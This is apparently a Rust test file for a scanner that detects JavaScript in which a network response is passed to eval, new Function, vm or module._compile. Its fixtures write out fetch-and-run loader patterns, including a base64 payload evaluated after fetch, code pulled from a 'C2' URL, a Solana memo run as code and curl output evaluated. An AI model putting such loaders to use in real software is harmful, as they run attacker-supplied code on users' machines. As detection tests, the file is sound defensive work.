use super::{RemoteRun, find_remote_run};

fn run(code: &str) -> Option<RemoteRun> {
    find_remote_run(code.as_bytes())
}

#[test]
fn a_response_decoded_then_evaluated_over_several_lines() {
    let code = "(async () => {\n  const res = await fetch(link, { headers: { os: process.platform } });\n  const code = Buffer.from(await res.text(), 'base64').toString();\n  eval(code);\n})();\n";
    assert_eq!(
        run(code),
        Some(RemoteRun {
            fetched_line: 2,
            run_line: 4
        })
    );
}

#[test]
fn a_response_handed_to_new_function() {
    let code = "const u = await contract.getString(addr);\nconst r = await fetch(u + '/' + process.platform);\nconst fn = new Function('require', await r.text());\nfn(require);\n";
    assert_eq!(run(code).map(|r| r.run_line), Some(3));
}

#[test]
fn chunks_gathered_from_a_node_response() {
    let code = "const https = require('https');\nhttps.get(url, res => {\n  let body = '';\n  res.on('data', chunk => body += chunk);\n  res.on('end', () => {\n    vm.runInNewContext(body, { require });\n  });\n});\n";
    assert_eq!(
        run(code),
        Some(RemoteRun {
            fetched_line: 2,
            run_line: 6
        })
    );
}

#[test]
fn a_promise_chain_ending_in_eval() {
    assert!(run("fetch(u).then(r => r.text()).then(eval);\n").is_some());
    assert!(
        run("fetch(u)\n  .then(function (r) { return r.text(); })\n  .then(t => { eval(t); });\n")
            .is_some()
    );
}

#[test]
fn destructured_axios_data() {
    let code =
        "const { data: payload } = await axios.get(C2);\nsetTimeout(() => eval(payload), 5000);\n";
    assert_eq!(run(code).map(|r| r.run_line), Some(2));
}

#[test]
fn a_function_returning_the_response() {
    let code = "async function stage() {\n  const r = await got(base + id);\n  return r.body;\n}\n\nasync function main() {\n  const src = await stage();\n  const m = new module.constructor();\n  m._compile(src, 'x.js');\n}\nmain();\n";
    assert_eq!(
        run(code),
        Some(RemoteRun {
            fetched_line: 2,
            run_line: 9
        })
    );
}

#[test]
fn a_solana_memo_read_as_code() {
    let code = "const sigs = await conn.getSignaturesForAddress(new PublicKey(A));\nconst memo = sigs.find(s => s.memo).memo;\neval(atob(memo));\n";
    assert!(run(code).is_some());
}

#[test]
fn curl_output_evaluated() {
    let code =
        "const out = execSync('curl -s https://example.invalid/x').toString();\neval(out);\n";
    assert!(run(code).is_some());
}

#[test]
fn no_run_without_a_response_reaching_the_evaluator() {
    // Fetches JSON and evaluates a constant of its own.
    assert_eq!(
        run(
            "const r = await fetch(u);\nconst j = await r.json();\nconsole.log(j);\neval('1 + 1');\n"
        ),
        None
    );
    // The response is only logged; another value is evaluated.
    assert_eq!(
        run(
            "const res = await fetch(u);\nconst text = await res.text();\nconsole.log(text);\nconst expr = compileTemplate(tpl);\nnew Function('ctx', expr);\n"
        ),
        None
    );
    // No network call at all.
    assert_eq!(
        run("const code = fs.readFileSync(p, 'utf8');\neval(code);\n"),
        None
    );
}

#[test]
fn names_inside_an_evaluated_string_are_not_values() {
    // A development bundle wraps each module in eval("..."); the module's own text
    // names variables that elsewhere hold responses.
    let code = "var res = fetch(u);\neval(\"var res = 1;\\nmodule.exports = res;\\n//# sourceURL=webpack://x\");\n";
    assert_eq!(run(code), None);
}

#[test]
fn a_function_bound_to_a_name_is_not_a_response() {
    let code = "const load = async () => {\n  const r = await fetch(u);\n  return r.json();\n};\nconst f = new Function('a', 'b', 'return a + b');\nf(1, 2);\n";
    assert_eq!(run(code), None);
}

#[test]
fn property_names_and_object_keys_are_not_the_variable() {
    let code = "const data = await fetch(u);\nconst cfg = { data: 1 };\neval(cfg.data);\n";
    assert_eq!(run(code), None);
}

#[test]
fn hostile_input_ends_quickly() {
    // Thousands of chained bindings and unclosed brackets: bounded by the name cap,
    // the rounds and the window.
    let mut code = String::from("let a0 = fetch(u);\n");
    for i in 1..5000 {
        code.push_str(&format!("let a{i} = a{} + (((;\n", i - 1));
    }
    code.push_str("eval(a4999);\n");
    let started = std::time::Instant::now();
    let _ = run(&code);
    assert!(started.elapsed().as_secs() < 5, "{:?}", started.elapsed());
}

#[test]
fn a_name_in_another_scope_is_another_variable() {
    // An Emscripten bundle: `body` of a fetch callback, and the `body` of an unrelated
    // function that builds code for eval.
    let code = "function load(url) {\n  return fetch(url).then((response) => response.arrayBuffer().then((buffer) => {\n    const body = new TextDecoder('utf-8').decode(buffer);\n    throw new Error(body);\n  }));\n}\nfunction asm(start, body) {\n  var func = `(${args}) => { ${body} };`;\n  ASM_CONSTS[start] = eval(func);\n}\n";
    assert_eq!(run(code), None);
}

#[test]
fn an_assignment_follows_its_declaration_out_of_the_callback() {
    let code = "let code = '';\nhttps.get(u, res => {\n  res.on('data', c => { code += c; });\n});\nsetTimeout(() => eval(code), 3000);\n";
    assert_eq!(run(code).map(|r| r.run_line), Some(5));
}

#[test]
fn every_parameter_of_a_request_callback() {
    let code = "request(url, (err, response, body) => {\n  if (!err) new Function('require', body)(require);\n});\n";
    assert_eq!(run(code).map(|r| r.run_line), Some(2));
    let code = "https.get(url, (res) => {\n  let d = '';\n  res.on('data', (c) => { d += c; });\n  res.on('end', () => { const m = new module.constructor(); m._compile(d, 'x.js'); });\n});\n";
    assert_eq!(run(code).map(|r| r.run_line), Some(4));
}

#[test]
fn a_callback_nested_inside_an_argument_gets_something_else() {
    // `expr` is what a template helper hands its callback, not the response.
    let code = "fetch(u, { body: render(tpl, expr => { return eval(expr); }) });\n";
    assert_eq!(run(code), None);
}
